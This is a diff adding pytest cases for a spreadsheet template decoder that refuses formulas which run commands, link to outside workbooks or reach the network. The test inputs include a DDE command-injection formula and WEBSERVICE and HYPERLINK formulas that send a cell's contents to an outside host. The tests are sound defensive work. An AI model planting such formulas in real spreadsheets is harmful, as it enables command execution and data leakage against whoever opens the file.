@@ -10,6 +10,7 @@ from typing import Any
 import openpyxl
 import pytest
 from openpyxl.styles import Alignment, Border, Font, PatternFill, Side
+from openpyxl.workbook.defined_name import DefinedName
 from openpyxl.worksheet.datavalidation import DataValidation
 
 from ocop.db.errors import Refused
@@ -235,6 +236,43 @@ def test_a_hostile_or_broken_file_is_refused(content: bytes, code: str) -> None:
         decoder.look(content, KNOWN)
 
     assert refusal.value.code == code
+
+
+@pytest.mark.parametrize(
+    ("formula", "code"),
+    [
+        ("=cmd|'/c calc'!A0", "template_formula"),
+        ('="chưa đóng', "template_formula"),
+        ("=[1]Sheet1!A1", "template_reaches_out"),
+        ("='[so lieu.xlsx]S'!A1", "template_reaches_out"),
+        ('=WEBSERVICE("http:"&"//la.vn/"&B2)', "template_reaches_out"),
+        ('=HYPERLINK("https://la.vn/?"&B2,"bấm")', "template_reaches_out"),
+    ],
+)
+def test_a_formula_that_reaches_out_or_cannot_be_read_keeps_the_template_out(formula: str, code: str) -> None:
+    def planted(page: Any) -> None:
+        page["A10"] = formula
+
+    found = decoder.look(an_offices_book(planted), KNOWN)
+
+    assert [(one.code, one.cell) for one in found.wrong] == [(code, "Biểu 01!A10")]
+
+
+def test_a_name_that_reaches_out_keeps_the_template_out() -> None:
+    def planted(page: Any) -> None:
+        page.parent.defined_names["Lay"] = DefinedName("Lay", attr_text="[1]Sheet1!$A$1")
+
+    found = decoder.look(an_offices_book(planted), KNOWN)
+
+    assert [(one.code, one.cell) for one in found.wrong] == [("template_reaches_out", "Lay")]
+
+
+@pytest.mark.parametrize("formula", ['=IF(B2>0,B2&" | còn","")', "=SUM(Bang1[SL])", "=VLOOKUP(A1,B1:C9,2,FALSE)"])
+def test_formulas_of_an_ordinary_office_are_left_alone(formula: str) -> None:
+    def own(page: Any) -> None:
+        page["A10"] = formula
+
+    assert decoder.look(an_offices_book(own), KNOWN).wrong == ()
 
 
 def test_a_cell_in_the_last_corner_does_not_build_the_whole_sheet() -> None:
